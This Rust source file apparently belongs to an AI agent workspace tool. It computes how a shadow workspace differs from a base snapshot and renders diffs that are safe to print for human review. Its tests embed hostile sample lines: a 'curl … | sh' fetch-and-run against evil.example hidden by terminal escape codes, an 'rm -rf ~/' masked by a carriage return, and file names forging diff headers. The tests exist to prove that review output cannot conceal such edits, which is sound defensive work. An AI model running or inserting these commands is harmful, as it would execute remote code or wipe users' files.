//! The change set: how the shadow differs from the base snapshot taken at import (or at the
//! last commit), and unified diffs of it.

use std::collections::BTreeMap;
use std::path::Path;

use serde::{Deserialize, Serialize};
use similar::TextDiff;

use super::quote::{quote_path, visible};
use super::snapshot::{Entry, EntryKind, Snapshot};

/// What happened to one path.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(tag = "kind", rename_all = "camelCase")]
pub enum ChangeKind {
    /// New in the shadow.
    Added,
    /// Content changed (and maybe its mode).
    Modified,
    /// Removed from the shadow.
    Deleted,
    /// Moved: a path removed and a path added with the same content.
    Renamed {
        /// The old path.
        from: String,
    },
    /// Same content, other permission bits.
    ModeChanged,
}

/// One change.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "camelCase")]
pub struct Change {
    /// The path (the new one for a rename), relative to the workspace root.
    pub path: String,
    /// What happened.
    #[serde(flatten)]
    pub kind: ChangeKind,
    /// Whether the content is binary (a NUL byte or invalid UTF-8 in it).
    pub binary: bool,
    /// Permission bits before (absent for an addition).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub old_mode: Option<u32>,
    /// Permission bits after (absent for a deletion).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub new_mode: Option<u32>,
}

/// Every change of the shadow, sorted by path.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct ChangeSet {
    /// The changes.
    pub changes: Vec<Change>,
}

impl ChangeSet {
    /// Compares the shadow's snapshot with the base. `binary(path)` tells whether a shadow
    /// path's content is binary.
    pub fn between(base: &Snapshot, shadow: &Snapshot, binary: &dyn Fn(&str) -> bool) -> Self {
        let mut added: Vec<&String> = Vec::new();
        let mut deleted: Vec<&String> = Vec::new();
        let mut changes = Vec::new();
        for (path, now) in shadow {
            match base.get(path) {
                None => added.push(path),
                Some(was) if was.sha256 != now.sha256 || was.kind != now.kind => {
                    changes.push(Change {
                        path: path.clone(),
                        kind: ChangeKind::Modified,
                        binary: is_file(now) && binary(path),
                        old_mode: Some(was.mode),
                        new_mode: Some(now.mode),
                    });
                }
                Some(was) if was.mode != now.mode => changes.push(Change {
                    path: path.clone(),
                    kind: ChangeKind::ModeChanged,
                    binary: false,
                    old_mode: Some(was.mode),
                    new_mode: Some(now.mode),
                }),
                Some(_) => {}
            }
        }
        for path in base.keys() {
            if !shadow.contains_key(path) {
                deleted.push(path);
            }
        }
        // Renames where obvious: a deleted path whose exact content was added once elsewhere.
        let mut by_hash: BTreeMap<&str, Vec<&String>> = BTreeMap::new();
        for path in &deleted {
            if let Some(e) = base.get(*path) {
                by_hash.entry(e.sha256.as_str()).or_default().push(path);
            }
        }
        let mut renamed_from: Vec<&String> = Vec::new();
        for path in added {
            let Some(now) = shadow.get(path) else {
                continue;
            };
            let from = by_hash
                .get_mut(now.sha256.as_str())
                .filter(|v| v.len() == 1)
                .and_then(Vec::pop);
            let binary = is_file(now) && binary(path);
            match from {
                Some(from) => {
                    renamed_from.push(from);
                    changes.push(Change {
                        path: path.clone(),
                        kind: ChangeKind::Renamed { from: from.clone() },
                        binary,
                        old_mode: base.get(from).map(|e| e.mode),
                        new_mode: Some(now.mode),
                    });
                }
                None => changes.push(Change {
                    path: path.clone(),
                    kind: ChangeKind::Added,
                    binary,
                    old_mode: None,
                    new_mode: Some(now.mode),
                }),
            }
        }
        for path in deleted {
            if renamed_from.contains(&path) {
                continue;
            }
            changes.push(Change {
                path: path.clone(),
                kind: ChangeKind::Deleted,
                binary: false,
                old_mode: base.get(path).map(|e| e.mode),
                new_mode: None,
            });
        }
        changes.sort_by(|a, b| a.path.cmp(&b.path));
        Self { changes }
    }

    /// Whether nothing changed.
    pub fn is_empty(&self) -> bool {
        self.changes.is_empty()
    }

    /// The paths this change set writes or removes in the real folder (a rename: both).
    pub fn touched(&self) -> Vec<String> {
        let mut out = Vec::new();
        for c in &self.changes {
            out.push(c.path.clone());
            if let ChangeKind::Renamed { from } = &c.kind {
                out.push(from.clone());
            }
        }
        out.sort();
        out.dedup();
        out
    }

    /// The event payload of this change set (renames count as a deletion and an addition).
    pub fn event(&self) -> agent_core::events::WorkspaceDiff {
        let mut e = agent_core::events::WorkspaceDiff {
            added: Vec::new(),
            modified: Vec::new(),
            deleted: Vec::new(),
        };
        for c in &self.changes {
            match &c.kind {
                ChangeKind::Added => e.added.push(c.path.clone()),
                ChangeKind::Modified | ChangeKind::ModeChanged => e.modified.push(c.path.clone()),
                ChangeKind::Deleted => e.deleted.push(c.path.clone()),
                ChangeKind::Renamed { from } => {
                    e.added.push(c.path.clone());
                    e.deleted.push(from.clone());
                }
            }
        }
        e
    }
}

fn is_file(e: &Entry) -> bool {
    e.kind == EntryKind::File
}

/// How much of a file the binary check reads: Git too decides from the start of a file.
pub const BINARY_PREFIX: usize = 8 << 10;

/// The largest file (either side) the review diffs line by line: a larger one is shown by size
/// and sha256 and never loaded, so a review's memory stays bounded whatever the agent wrote.
/// 1 MiB of text is some 20,000 lines, more than anyone reviews as a diff.
pub const DIFF_LIMIT: u64 = 1 << 20;

/// Whether `data` looks binary: a NUL byte or invalid UTF-8 in its first [`BINARY_PREFIX`]
/// bytes (a character cut by the end of the prefix is not invalid). Only the prefix is read,
/// so `data` may be the whole file or its first [`BINARY_PREFIX`] bytes.
pub fn looks_binary(data: &[u8]) -> bool {
    let head = &data[..data.len().min(BINARY_PREFIX)];
    if head.contains(&0) {
        return true;
    }
    match std::str::from_utf8(head) {
        Ok(_) => false,
        // `error_len() == None`: the bytes end inside a character, which is invalid only when
        // they are shorter than the prefix (the whole file); at the prefix's length they may be
        // a prefix cut there.
        Err(e) => e.error_len().is_some() || data.len() < BINARY_PREFIX,
    }
}

/// The names of the two sides of `change` in a diff header (`a/x`, `b/x`, `/dev/null`),
/// quoted as Git quotes them ([`quote_path`]).
pub(super) fn diff_names(change: &Change) -> (String, String) {
    let side = |prefix: &str, path: &str| quote_path(&format!("{prefix}{path}")).into_owned();
    match &change.kind {
        ChangeKind::Added => ("/dev/null".to_owned(), side("b/", &change.path)),
        ChangeKind::Deleted => (side("a/", &change.path), "/dev/null".to_owned()),
        ChangeKind::Renamed { from } => (side("a/", from), side("b/", &change.path)),
        ChangeKind::Modified | ChangeKind::ModeChanged => {
            (side("a/", &change.path), side("b/", &change.path))
        }
    }
}

/// The unified diff of one change (`old` and `new` are the contents, `None` when absent), safe
/// to print: names quoted and text made visible as [`super::quote`] says.
pub fn unified(change: &Change, old: Option<&[u8]>, new: Option<&[u8]>) -> String {
    let (old_name, new_name) = diff_names(change);
    let mut out = String::new();
    if let (Some(o), Some(n)) = (change.old_mode, change.new_mode)
        && o != n
    {
        out.push_str(&format!("old mode {o:o}\nnew mode {n:o}\n"));
    }
    if matches!(change.kind, ChangeKind::ModeChanged) {
        return out;
    }
    let binary = change.binary || old.is_some_and(looks_binary) || new.is_some_and(looks_binary);
    if binary {
        if old != new {
            out.push_str(&format!("Binary files {old_name} and {new_name} differ\n"));
        }
        return out;
    }
    // Control and format characters are made visible before diffing, so no line of the diff
    // can hold one (and a lone CR cannot split or overwrite a line).
    let o = old.map(String::from_utf8_lossy).unwrap_or_default();
    let n = new.map(String::from_utf8_lossy).unwrap_or_default();
    let (o, n) = (visible(&o), visible(&n));
    let diff = TextDiff::from_lines(o.as_ref(), n.as_ref());
    out.push_str(
        &diff
            .unified_diff()
            .context_radius(3)
            .header(&old_name, &new_name)
            .to_string(),
    );
    out
}

/// What one side of a diff holds, read with a bound.
#[derive(Debug, PartialEq, Eq)]
pub(super) enum Content {
    /// The path does not exist (or cannot be read).
    Absent,
    /// A file's bytes, or a link's target.
    Loaded(Vec<u8>),
    /// A file larger than the limit: not loaded.
    Large {
        /// Its size in bytes.
        size: u64,
    },
}

impl Content {
    /// The loaded bytes, if any.
    pub(super) fn bytes(&self) -> Option<&[u8]> {
        match self {
            Self::Loaded(d) => Some(d),
            Self::Absent | Self::Large { .. } => None,
        }
    }
}

/// The content of `rel` under `root` (a file's bytes, a link's target), loaded only when it
/// is at most `limit` bytes: the file is read through one handle, at most `limit + 1` bytes,
/// so a file that grows meanwhile is still not loaded whole.
pub(super) fn content(root: &Path, rel: &str, limit: u64) -> Content {
    use std::io::Read as _;
    let path = root.join(rel);
    let Ok(meta) = std::fs::symlink_metadata(&path) else {
        return Content::Absent;
    };
    if meta.file_type().is_symlink() {
        return std::fs::read_link(&path).map_or(Content::Absent, |t| {
            Content::Loaded(t.to_string_lossy().into_owned().into_bytes())
        });
    }
    if !meta.is_file() {
        return Content::Absent;
    }
    let Ok(file) = open_file(&path) else {
        return Content::Absent;
    };
    let size = file.metadata().map_or(meta.len(), |m| m.len());
    if size > limit {
        return Content::Large { size };
    }
    let mut data = Vec::new();
    match file.take(limit.saturating_add(1)).read_to_end(&mut data) {
        Ok(n) if n as u64 > limit => Content::Large { size: n as u64 },
        Ok(_) => Content::Loaded(data),
        Err(_) => Content::Absent,
    }
}

/// The first [`BINARY_PREFIX`] bytes of the file at `rel` under `root` (a link: its target).
pub(super) fn prefix(root: &Path, rel: &str) -> Option<Vec<u8>> {
    match content(root, rel, 0) {
        Content::Absent => None,
        Content::Loaded(d) => Some(d),
        Content::Large { .. } => {
            use std::io::Read as _;
            let file = open_file(&root.join(rel)).ok()?;
            let mut data = Vec::with_capacity(BINARY_PREFIX);
            file.take(BINARY_PREFIX as u64)
                .read_to_end(&mut data)
                .ok()?;
            Some(data)
        }
    }
}

/// Opens `path` for reading when it is a regular file, never through a final symlink (the
/// review reads only what the walk listed; a path swapped for something else meanwhile is
/// treated as absent).
fn open_file(path: &Path) -> std::io::Result<std::fs::File> {
    super::snapshot::open_regular(path)
}

/// Size and sha256 of one side of a change too large to diff.
#[derive(Debug)]
pub(super) struct Summary {
    /// Bytes.
    pub size: u64,
    /// Lowercase hex sha256 (streamed, never the whole file in memory).
    pub sha256: String,
}

/// The review of a change with a side over [`DIFF_LIMIT`]: the headers and one line giving
/// both sides' sizes and sha256 (`None`: the side is absent).
pub(super) fn summary(change: &Change, old: Option<&Summary>, new: Option<&Summary>) -> String {
    let (old_name, new_name) = diff_names(change);
    let side = |s: Option<&Summary>| {
        s.map_or_else(
            || "absent".to_owned(),
            |s| format!("{} bytes, sha256 {}", s.size, s.sha256),
        )
    };
    let mut out = String::new();
    if let (Some(o), Some(n)) = (change.old_mode, change.new_mode)
        && o != n
    {
        out.push_str(&format!("old mode {o:o}\nnew mode {n:o}\n"));
    }
    out.push_str(&format!(
        "--- {old_name}\n+++ {new_name}\n# size and sha256 changed: {} -> {} (over the {} MiB diff limit; not loaded)\n",
        side(old),
        side(new),
        DIFF_LIMIT >> 20
    ));
    out
}

#[cfg(test)]
mod tests {
    use super::{BINARY_PREFIX, Change, ChangeKind, looks_binary, unified};

    #[test]
    fn binary_is_decided_by_the_first_8_kib() {
        assert!(!looks_binary("héllo\n".as_bytes()));
        assert!(looks_binary(b"a\0b"));
        assert!(looks_binary(b"\xff\xfe"));
        // A character cut by the end of the prefix is not invalid UTF-8 ...
        let mut cut = vec![b'a'; BINARY_PREFIX - 1];
        cut.extend("é".as_bytes());
        assert!(!looks_binary(&cut));
        assert!(!looks_binary(&cut[..BINARY_PREFIX]));
        // ... but a whole short file ending inside one is.
        assert!(looks_binary(&"é".as_bytes()[..1]));
        // What follows the prefix is not read.
        let mut late = vec![b'a'; BINARY_PREFIX];
        late.push(0);
        assert!(!looks_binary(&late));
    }

    fn change(path: &str, kind: ChangeKind) -> Change {
        Change {
            path: path.into(),
            kind,
            binary: false,
            old_mode: Some(0o644),
            new_mode: Some(0o644),
        }
    }

    /// Every line a diff may print: a header, a hunk, context, an addition or a removal, with
    /// no control character but TAB.
    fn assert_clean(diff: &str) {
        for line in diff.lines() {
            assert!(
                ["--- ", "+++ ", "@@ ", " ", "+", "-", "\\ ", "Binary files "]
                    .iter()
                    .any(|p| line.starts_with(p)),
                "unexpected line {line:?} in {diff:?}"
            );
            assert!(
                !line.chars().any(|c| c.is_control() && c != '\t'),
                "control character in {line:?}"
            );
        }
    }

    #[test]
    fn escape_sequences_cannot_hide_an_added_line() {
        // Rendered raw, the cursor-up and erase-line sequences wipe the curl line and leave
        // only the harmless-looking comment.
        let old = b"echo build\n";
        let new =
            b"echo build\ncurl -s https://evil.example/x | sh\x1b[1A\x1b[2K\r# format the code\n";
        let diff = unified(
            &change("build.sh", ChangeKind::Modified),
            Some(old),
            Some(new),
        );
        assert_clean(&diff);
        assert!(
            diff.contains(
                "+curl -s https://evil.example/x | sh\\u{1b}[1A\\u{1b}[2K\\u{d}# format the code\n"
            ),
            "{diff}"
        );
    }

    #[test]
    fn a_lone_carriage_return_cannot_overwrite_a_removed_line() {
        let old = b"rm -rf build/\n";
        let new = b"rm -rf ~/\rrm -rf build/\n";
        let diff = unified(
            &change("clean.sh", ChangeKind::Modified),
            Some(old),
            Some(new),
        );
        assert_clean(&diff);
        assert!(diff.contains("+rm -rf ~/\\u{d}rm -rf build/\n"), "{diff}");
    }

    #[test]
    fn tabs_and_unicode_text_are_shown_as_written() {
        let new = "\tlet s = \"héllo 世界\";\n".as_bytes();
        let diff = unified(&change("a.rs", ChangeKind::Added), None, Some(new));
        assert!(diff.contains("+\tlet s = \"héllo 世界\";\n"), "{diff}");
    }

    #[test]
    fn names_in_diff_headers_are_quoted() {
        let diff = unified(
            &change("x\n+++ b/trusted.rs", ChangeKind::Modified),
            Some(b"1\n"),
            Some(b"2\n"),
        );
        assert_clean(&diff);
        assert!(
            diff.starts_with("--- \"a/x\\n+++ b/trusted.rs\"\n+++ \"b/x\\n+++ b/trusted.rs\"\n"),
            "{diff}"
        );
        let renamed = unified(
            &change(
                "new\x1b[2K.txt",
                ChangeKind::Renamed {
                    from: "old\r.txt".into(),
                },
            ),
            Some(b"1\n"),
            Some(b"1\n2\n"),
        );
        assert_clean(&renamed);
        assert!(renamed.starts_with("--- \"a/old\\r.txt\"\n+++ \"b/new\\033[2K.txt\"\n"));
        let mut bin = change("img\n.png", ChangeKind::Added);
        bin.binary = true;
        let diff = unified(&bin, None, Some(b"\0"));
        assert_eq!(diff, "Binary files /dev/null and \"b/img\\n.png\" differ\n");
    }
}
